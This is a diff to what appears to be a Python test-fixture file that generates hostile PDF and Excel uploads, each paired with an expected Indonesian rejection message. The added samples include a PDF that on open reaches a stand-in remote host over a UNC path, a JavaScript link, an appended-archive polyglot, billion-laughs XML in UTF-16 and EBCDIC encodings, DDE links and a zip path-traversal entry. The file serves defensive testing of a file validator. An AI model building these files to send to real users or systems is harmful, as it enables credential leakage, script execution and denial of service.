@@ -79,6 +79,18 @@ def harmless_link(made: pikepdf.Pdf) -> None:
     made.pages[0].Annots = pikepdf.Array([link])
 
 
+def opens_elsewhere(made: pikepdf.Pdf) -> None:
+    """Opening the file asks another computer, with the name of whoever opened it."""
+    first = pikepdf.Array([0, pikepdf.Name.Fit])
+    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=r"\\contoh.invalid\a.pdf", D=first)
+
+
+def script_in_a_link(made: pikepdf.Pdf) -> None:
+    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=" JavaScript:app.alert(1)")
+    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
+    made.pages[0].Annots = pikepdf.Array([link])
+
+
 def opens_at_page(made: pikepdf.Pdf) -> None:
     made.Root.OpenAction = pikepdf.Array([made.pages[0].obj, pikepdf.Name.Fit])
 
@@ -92,6 +104,14 @@ def workbook(rows: int = 3) -> bytes:
     out = BytesIO()
     book.save(out)
     return out.getvalue()
+
+
+def workbook_of(rows: str) -> bytes:
+    """A workbook whose only sheet holds this XML."""
+    sheet = f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}'
+    with zipfile.ZipFile(BytesIO(workbook())) as made:
+        parts = {name: made.read(name) for name in made.namelist()}
+    return archive(parts | {"xl/worksheets/sheet1.xml": f"{sheet}</sheetData></worksheet>"})
 
 
 def archive(parts: dict[str, str | bytes], *, onto: bytes = b"") -> bytes:
@@ -162,6 +182,9 @@ def hostile() -> dict[str, tuple[bytes, str]]:
         "kunci-pemilik.pdf": (pdf(encryption=pikepdf.Encryption(owner="a", user="")), "kata sandi"),
         "rusak.pdf": (b"%PDF-1.7\n" + b"\x01\x02" * 400, "rusak"),
         "panjang.pdf": (pdf(pages=301), "300 halaman"),
+        "pergi.pdf": (pdf(opens_elsewhere), "tindakan otomatis"),
+        "tautan-skrip.pdf": (pdf(script_in_a_link), "JavaScript"),
+        "arsip-juga.pdf": (archive({"a.sh": "x" * 99}, onto=pdf()) + b"\nstartxref\n9\n%%EOF", "menempel"),
         "menempel.pdf": (archive({"a.sh": random.Random(1).randbytes(4000)}, onto=pdf()), "menempel"),
         "bom.png": (image_bomb(), "terlalu besar"),
         "terpotong.jpg": (photo(size=(600, 600))[:400], "rusak"),
@@ -177,6 +200,10 @@ def hostile_workbooks() -> dict[str, tuple[bytes, str]]:
         "banyak.xlsx": (archive(XLSX_PARTS | {f"xl/media/{at}": b"" for at in range(500)}), "membengkak"),
         "makro.xlsx": (archive(XLSX_PARTS | {"xl/vbaProject.bin": b"x"}), "makro"),
         "tawa.xlsx": (archive(XLSX_PARTS | {"xl/workbook.xml": LAUGHS}), "XML yang berbahaya"),
+        "tawa16.xlsx": (archive(XLSX_PARTS | {"xl/s.xml": LAUGHS.encode("utf-16")}), "XML yang berbahaya"),
+        "ebcdic.xlsx": (archive(XLSX_PARTS | {"xl/s.XML": "<?xml version='1.0' encoding='cp037'?>"}), "berbahaya"),
+        "dde-lain.xlsx": (archive(XLSX_PARTS | {"xl/externalLinks/e1.xml": "<x:ddeLink/>"}), "DDE"),
+        "celah.xlsx": (workbook_of('<row r="99999999999"><c r="A1"><v>1</v></c></row>'), "1.000.000 sel"),
         "dde.xlsx": (archive(XLSX_PARTS | {"xl/externalLinks/e1.xml": "<ddeLink/>"}), "DDE"),
         "jalan.xlsx": (archive(XLSX_PARTS | {"../../etc/cron": "x"}), "rusak"),
         "kosong.xlsx": (archive(XLSX_PARTS), "rusak"),
